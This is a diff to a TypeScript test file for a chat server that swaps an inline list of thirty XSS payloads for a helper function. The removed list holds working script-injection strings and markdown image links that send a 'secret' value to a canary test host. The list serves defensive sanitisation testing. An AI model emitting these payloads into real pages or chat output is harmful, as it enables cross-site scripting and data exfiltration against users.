@@ -4,6 +4,7 @@ import { readConfig } from '../config/config.ts';
 import { operations, type OperationFacts } from '../contract/operations.ts';
 import { createOpenAiEngine } from '../providers/text/openai/openai-engine.ts';
 import { createChatServer, type ChatServer } from '../testing/chat-server.ts';
+import { scriptsFor } from '../testing/scripts.ts';
 import { event, jsonPeer, openTextPeer, streamPeer, textEvent, type PeerAnswer } from '../testing/text-peer.ts';
 
 let server: ChatServer;
@@ -12,39 +13,7 @@ beforeAll(async () => {
 });
 afterAll(() => server[Symbol.asyncDispose]());
 
-/** Thirty ways in which words have become programs (OWASP). */
-const SCRIPTS = [
-  '<script>alert(1)</script>',
-  '<img src=x onerror=alert(1)>',
-  '<svg onload=alert(1)>',
-  '<iframe srcdoc="<script>alert(1)</script>">',
-  '<a href="javascript:alert(1)">x</a>',
-  '[x](javascript:alert(1))',
-  '[x](JaVaScRiPt&#58;alert(1))',
-  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
-  '![x](x" onerror="alert(1))',
-  '![x](https://canary.test/?d=secret)',
-  '<https://canary.test/?d=secret>',
-  '"><script>alert(1)</script>',
-  "';alert(1);//",
-  '</textarea><script>alert(1)</script>',
-  '</title><script>alert(1)</script>',
-  '<body onpageshow=alert(1)>',
-  '<details open ontoggle=alert(1)>',
-  '<math><mtext><script>alert(1)</script></mtext></math>',
-  '<style>@import "https://canary.test/x.css";</style>',
-  '<div style="background:url(https://canary.test/x)">',
-  '<link rel=stylesheet href=https://canary.test/x.css>',
-  '<meta http-equiv=refresh content="0;url=https://canary.test">',
-  '<base href="https://canary.test/">',
-  '<form action=https://canary.test><input name=a autofocus onfocus=alert(1)></form>',
-  '<object data="javascript:alert(1)">',
-  '<embed src="javascript:alert(1)">',
-  '<video><source onerror=alert(1)></video>',
-  '{{constructor.constructor("alert(1)")()}}',
-  '\u202e<script>alert(1)</script>',
-  '&lt;script&gt;alert(1)&lt;/script&gt;',
-];
+const SCRIPTS = scriptsFor('https://canary.test');
 
 describe('a chat of somebody else', () => {
   const inChats = Object.entries(operations).filter(([, { path }]) => path.startsWith('/chats/{chatId}'));
